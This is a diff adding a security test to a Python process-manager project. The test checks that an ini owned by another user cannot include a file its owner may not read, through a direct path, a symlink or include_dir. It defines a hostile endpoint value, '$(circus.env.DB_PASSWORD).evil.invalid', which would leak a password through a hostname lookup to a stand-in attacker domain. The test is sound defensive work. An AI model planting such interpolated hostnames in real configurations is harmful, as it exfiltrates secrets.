@@ -8,6 +8,7 @@ import shutil
 import signal
 import socket
 import subprocess
+import sys
 import tempfile
 import threading
 from collections.abc import Iterator
@@ -26,7 +27,7 @@ from xboard_circus.host.procs import TICKS, Identity, below, now, send_signal
 from xboard_circus.instance import EndpointTaken, Instance, Silent
 from xboard_circus.monitor import ThisHost
 
-from .attacker import PYTHON
+from .attacker import PYTHON, completed_as
 from .harness import BUNDLE, Circusd, Watcher, circusd
 from .processes import process
 from .test_users import USER, library_path, open_folder, pytestmark, python  # noqa: F401 - the marks and fixtures
@@ -615,3 +616,49 @@ def test_what_an_ini_of_anothers_names_as_circusd_gets_its_owner_nothing(
         finally:
             popen.kill()
             popen.communicate()
+
+
+NAME = "$(circus.env.DB_PASSWORD).evil.invalid"
+
+
+@pytest.mark.parametrize("whose", ["root", USER])
+def test_an_ini_of_another_users_includes_nothing_that_its_owner_may_not_read(
+    open_folder: Path,  # noqa: F811
+    python: str,  # noqa: F811
+    whose: str,
+) -> None:
+    """Given a file that root, or an operator, alone may read, which another user's ini includes, also through a link or
+    a pattern, and the name of a host there that has its values, when its reader looks at that ini, then the include is
+    refused with the file and the owner of the ini, and no value is looked up; what both may read is included."""
+    with contextlib.ExitStack() as ended:
+        folder = Path(ended.enter_context(tempfile.TemporaryDirectory(dir=open_folder)))
+        (theirs := folder / "theirs").mkdir(0o755)
+        (closed := folder / "closed").mkdir(0o700)
+        folder.chmod(0o755)
+        (secret := closed / "secret.ini").write_text("[env]\nDB_PASSWORD = s3cret\n")  # of mode 644
+        (theirs / "link.ini").symlink_to(secret)
+        (theirs / "own.ini").write_text("[watcher:web]\ncmd = sleep 1\n")
+        ini = theirs / "circus.ini"
+        for path in (theirs, *theirs.iterdir()):
+            shutil.chown(path, "daemon")
+        for path in (closed, secret):
+            shutil.chown(path, whose)
+        env = library_path(open_folder / "python") if python != sys.executable else {}
+        env |= {"XBOARD_RUNTIME_DIR": str(closed / "r"), "XBOARD_STATE_DIR": str(closed / "r")}
+
+        def status(include: str, host: str) -> subprocess.CompletedProcess[str]:
+            lines = ("[circus]", include, f"endpoint = tcp://{host}:1", "pubsub_endpoint = tcp://127.0.0.1:2")
+            ini.write_text("\n".join(lines))
+            shutil.chown(ini, "daemon")
+            return completed_as(whose, [python, "-m", "xboard_circus", "status", "-c", str(ini)], **env)
+
+        for include in (f"include = {secret}", "include = link.ini", f"include_dir = {closed}"):
+            refused = status(include, NAME)
+            file = "link.ini" if "link" in include else str(secret)
+            assert refused.returncode == 1, refused
+            assert f"{file}: cannot be read: daemon, whose ini includes it, may not; take it out" in refused.stderr
+            assert "s3cret" not in refused.stderr
+        assert "circusd of" in status("include = own.ini", "127.0.0.1").stderr
+        shutil.chown(closed, whose, "daemon")
+        closed.chmod(0o750)
+        assert "s3cret.evil.invalid" in status(f"include = {secret}", NAME).stderr  # the trap is sound
